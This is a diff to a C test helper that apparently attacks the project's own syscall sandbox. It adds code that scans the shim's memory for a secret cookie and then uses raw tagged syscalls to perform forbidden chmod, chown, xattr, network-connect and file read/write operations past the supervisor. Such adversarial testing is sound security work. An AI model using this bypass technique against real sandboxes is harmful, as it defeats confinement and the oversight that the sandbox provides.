@@ -28,6 +28,8 @@
 #include <sys/syscall.h>
 #include <sys/uio.h>
 #include <sys/wait.h>
+#include <sys/time.h>
+#include <time.h>
 #include <unistd.h>
 
 extern char** environ;
@@ -200,6 +202,124 @@ static unsigned long find_cookie(const char* denied) {
   return found;
 }
 
+/* As find_cookie, but each candidate is tried as the tag of an O_PATH open
+ * of a file the policy admits: the supervisor cannot hand an O_PATH
+ * descriptor back (docs/design.md), so only a call that skipped it gets
+ * one. A second way in, for when opening a denied file no longer tells. */
+static unsigned long find_cookie_by_opath(const char* admitted) {
+  FILE* maps = fopen("/proc/self/maps", "r");
+  if (maps == NULL) return 0;
+  char line[512];
+  int after_shim = 0;
+  unsigned long found = 0;
+  while (!found && fgets(line, sizeof(line), maps)) {
+    unsigned long lo, hi;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3) continue;
+    const int shim = strstr(line, "libklaunch-shim") != NULL;
+    const int anonymous = strchr(line, '/') == NULL && strchr(line, '[') == NULL;
+    const int scan = perms[0] == 'r' && perms[1] == 'w' && (shim || (after_shim && anonymous));
+    after_shim = shim;
+    if (!scan) continue;
+    for (unsigned long* w = (unsigned long*)lo; w < (unsigned long*)hi; ++w) {
+      const unsigned long v = *w;
+      if ((v >> 48) == 0 || (v >> 48) == 0xffff) continue;
+      long fd = syscall(SYS_openat, AT_FDCWD, admitted, O_PATH, 0, 0, v);
+      if (fd >= 0) {
+        close((int)fd);
+        found = v;
+        break;
+      }
+    }
+  }
+  fclose(maps);
+  return found;
+}
+
+static void tag_say(const char* what, long r) {
+  if (r >= 0) printf("tag %s: done\n", what);
+  else printf("tag %s: %s\n", what, strerror(errno));
+}
+
+/* tag PROBE OP ARGS...: the cookie found in the shim's memory, then one
+ * forbidden operation made of raw calls carrying it, so that neither the
+ * shim nor the supervisor sees them (tests/attack_tag_test.cc). */
+static int tag_attack(int argc, char** argv) {
+  const char* probe = argv[2];
+  const char* op = argv[3];
+  const char* a = argc > 4 ? argv[4] : "";
+  const char* b = argc > 5 ? argv[5] : "";
+  const char* how = "denied open";
+  unsigned long cookie = find_cookie(probe);
+  if (!cookie) {
+    how = "O_PATH open";
+    cookie = find_cookie_by_opath(".");
+  }
+  if (!cookie) {
+    printf("tag: no cookie found\n");
+    return 0;
+  }
+  printf("tag: found the cookie (probe: %s)\n", how);
+  const unsigned long c = cookie;
+  if (!strcmp(op, "chmod")) {           /* chmod PATH MODE */
+    const long mode = strtol(b, NULL, 8);
+    tag_say("chmod", syscall(SYS_chmod, a, mode, 0, 0, 0, c));
+    tag_say("fchmodat", syscall(SYS_fchmodat, AT_FDCWD, a, mode, 0, 0, c));
+    tag_say("fchmodat2", syscall(452 /* fchmodat2 */, AT_FDCWD, a, mode, 0, 0, c));
+  } else if (!strcmp(op, "chown")) {    /* chown PATH UID */
+    const long uid = atol(b);
+    tag_say("chown", syscall(SYS_chown, a, uid, uid, 0, 0, c));
+    tag_say("lchown", syscall(SYS_lchown, a, uid, uid, 0, 0, c));
+    tag_say("fchownat", syscall(SYS_fchownat, AT_FDCWD, a, uid, uid, 0, c));
+  } else if (!strcmp(op, "utimes")) {   /* utimes PATH */
+    struct timespec ts[2] = {{1000000000, 0}, {1000000000, 0}};
+    struct timeval tv[2] = {{1000000000, 0}, {1000000000, 0}};
+    tag_say("utimensat", syscall(SYS_utimensat, AT_FDCWD, a, ts, 0, 0, c));
+    tag_say("utimes", syscall(SYS_utimes, a, tv, 0, 0, 0, c));
+    tag_say("futimesat", syscall(SYS_futimesat, AT_FDCWD, a, tv, 0, 0, c));
+  } else if (!strcmp(op, "setxattr")) { /* setxattr PATH NAME */
+    tag_say("setxattr", syscall(SYS_setxattr, a, b, "forged", 6, 0, c));
+    tag_say("lsetxattr", syscall(SYS_lsetxattr, a, b, "forged", 6, 0, c));
+  } else if (!strcmp(op, "unix")) {     /* unix PATH */
+    int s = socket(AF_UNIX, SOCK_STREAM, 0);
+    struct sockaddr_un un = {.sun_family = AF_UNIX};
+    strncpy(un.sun_path, a, sizeof(un.sun_path) - 1);
+    tag_say("unix connect", syscall(SYS_connect, s, &un, sizeof(un), 0, 0, c));
+  } else if (!strcmp(op, "udp")) {      /* udp PORT */
+    int s = socket(AF_INET, SOCK_DGRAM, 0);
+    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(atoi(a))};
+    in.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    char data[] = "forged-datagram";
+    struct iovec iov = {data, sizeof(data) - 1};
+    struct msghdr m = {.msg_name = &in, .msg_namelen = sizeof(in),
+                       .msg_iov = &iov, .msg_iovlen = 1};
+    tag_say("udp sendmsg", syscall(SYS_sendmsg, s, &m, 0, 0, 0, c));
+  } else if (!strcmp(op, "tcp")) {      /* tcp ADDRESS PORT */
+    int s = socket(AF_INET, SOCK_STREAM, 0);
+    struct sockaddr_in in = {.sin_family = AF_INET, .sin_port = htons(atoi(b))};
+    inet_pton(AF_INET, a, &in.sin_addr);
+    tag_say("tcp connect", syscall(SYS_connect, s, &in, sizeof(in), 0, 0, c));
+  } else if (!strcmp(op, "write")) {    /* write PATH TEXT */
+    long fd = syscall(SYS_openat, AT_FDCWD, a, O_WRONLY | O_TRUNC, 0, 0, c);
+    if (fd >= 0 && write((int)fd, b, strlen(b)) == (long)strlen(b)) tag_say("write", 0);
+    else tag_say("write", -1);
+  } else if (!strcmp(op, "read")) {     /* read PATH */
+    long fd = syscall(SYS_openat, AT_FDCWD, a, O_RDONLY, 0, 0, c);
+    if (fd < 0) {
+      tag_say("read", -1);
+    } else {
+      char buf[256];
+      long n = read((int)fd, buf, sizeof(buf) - 1);
+      buf[n > 0 ? n : 0] = '\0';
+      printf("tag read: read '%s'\n", buf);
+    }
+  } else {
+    printf("tag: unknown operation %s\n", op);
+    return 2;
+  }
+  return 0;
+}
+
 int main(int argc, char** argv) {
   setvbuf(stdout, NULL, _IONBF, 0);
   if (argc < 2) return 2;
@@ -365,6 +485,9 @@ int main(int argc, char** argv) {
     a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
     if (syscall(SYS_connect, s, &a, sizeof(a), 0, 0, cookie) == 0) printf("forge connect: done\n");
     else printf("forge connect: %s\n", strerror(errno));
+  } else if (!strcmp(mode, "tag") && argc > 3) {
+    /* tag PROBE OP ARGS...: class 3 of tests/attack_tag_test.cc. */
+    return tag_attack(argc, argv);
   } else if (!strcmp(mode, "abstract")) {
     /* abstract NAME: connect to an abstract Unix socket. */
     int s = socket(AF_UNIX, SOCK_STREAM, 0);
